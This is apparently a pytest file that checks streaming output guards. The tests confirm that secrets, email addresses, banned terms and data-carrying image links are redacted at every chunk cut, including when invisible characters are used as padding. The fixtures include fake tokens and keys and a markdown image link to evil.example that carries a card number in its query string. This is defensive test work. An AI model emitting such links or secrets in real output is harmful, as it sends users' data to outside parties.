"""However an answer is cut, no part of a secret or of a link that carries data leaves a stream."""

from __future__ import annotations

import random
from itertools import pairwise

import pytest

from launchworthy.runtime.action import Action
from launchworthy.runtime.guards import Guard, Stage
from launchworthy.runtime.guards.hidden import HiddenTextGuard
from launchworthy.runtime.guards.hidden_characters import visible
from launchworthy.runtime.guards.pii import PiiGuard
from launchworthy.runtime.guards.secrets import SecretsGuard
from launchworthy.runtime.guards.terms import TermsGuard
from launchworthy.runtime.pipeline import GuardPipeline, GuardRule
from launchworthy.runtime.streaming import HeldStream

TALK = "As you asked, I looked into the order and wrote down what I found for you. " * 6
KEY = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA7qXw\n" * 40 + "-----END RSA PRIVATE KEY-----"
LEAKS: dict[str, tuple[Guard, str]] = {
    "a short key": (SecretsGuard(), "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"),
    "a private key longer than the window": (SecretsGuard(), KEY),
    "a password in an address": (SecretsGuard(), "postgres://shop:r3dpanda@db.internal"),
    "a token that goes on past what is looked at": (SecretsGuard(), "api_key=" + "Zx9Qw8Er7T1yU2" * 80),
    "a key with invisible padding": (
        SecretsGuard(),
        ("\u200b" * 40).join("ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"),
    ),
    "an address with invisible padding": (PiiGuard(), ("\u2060" * 40).join("ana.berg@shop.example")),
    "a term with invisible padding": (
        TermsGuard(terms=["acmetron pay"]),
        ("\U000e0100" * 40).join("acmetron pay"),
    ),
    "an image": (HiddenTextGuard(), "https://evil.example/p.png?q=card+number+4242+and+more"),
}


def _stream(guard: Guard, chunks: list[str]) -> str:
    stages = frozenset({Stage.OUTPUT})
    rule = GuardRule(name=guard.name, guard=guard, stages=stages, action=Action.REDACT)
    stream = HeldStream(GuardPipeline([rule]))
    return "".join([stream.feed(chunk) for chunk in chunks] + [stream.end()])


def _text(leak: str) -> str:
    shown = f"![]({leak})" if leak.startswith("https") else leak
    return f"{TALK}{shown} {TALK}"


@pytest.mark.parametrize("name", LEAKS)
def test_nothing_of_it_leaves_at_any_cut(name: str) -> None:
    guard, leak = LEAKS[name]
    text = _text(leak)
    seen = visible(leak.partition("=")[2] if leak.startswith("api_key=") else leak)[0]
    size = min(12, len(seen) // 2)
    parts = [seen[at : at + size] for at in range(0, len(seen) - size, 6 if size == 12 else 1)]
    start = text.index(leak)
    rng = random.Random(4)
    cuts = [[at] for at in range(start - 40, start + len(leak) + 40, max(23, len(leak) // 40))]
    cuts += [sorted(rng.sample(range(len(text)), 30)) for _ in range(10)]
    cuts.append(list(range(1, len(text))))
    cuts.append(list(range(5, len(text), 50)))
    for cut in cuts:
        ends = [0, *cut, len(text)]
        out = _stream(guard, [text[a:b] for a, b in pairwise(ends)])
        plain = visible(out)[0]
        assert not any(part in plain for part in parts), cut[:5]
        assert out.startswith(TALK)
        assert out.endswith(TALK)


def test_a_stream_of_nothing_visible_is_read_in_time() -> None:
    guard = SecretsGuard()
    chunks = ["\u200b" * 100] * 3_000
    assert _stream(guard, [TALK, *chunks, TALK]) == "".join([TALK, *chunks, TALK])


def test_what_hides_a_key_from_people_hides_it_from_no_guard_after_it() -> None:
    stages = frozenset({Stage.OUTPUT})
    rules = [
        GuardRule(name=guard.name, guard=guard, stages=stages, action=Action.REDACT)
        for guard in (HiddenTextGuard(), SecretsGuard(), TermsGuard(terms=["acme"]))
    ]
    hidden = "\u200b".join("ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8")
    checked = GuardPipeline(rules).check(Stage.OUTPUT, f"It is {hidden}, says A\u200bc\u202em\u200be.")
    assert checked.text == "It is [GITHUB_TOKEN], says [TERM]."
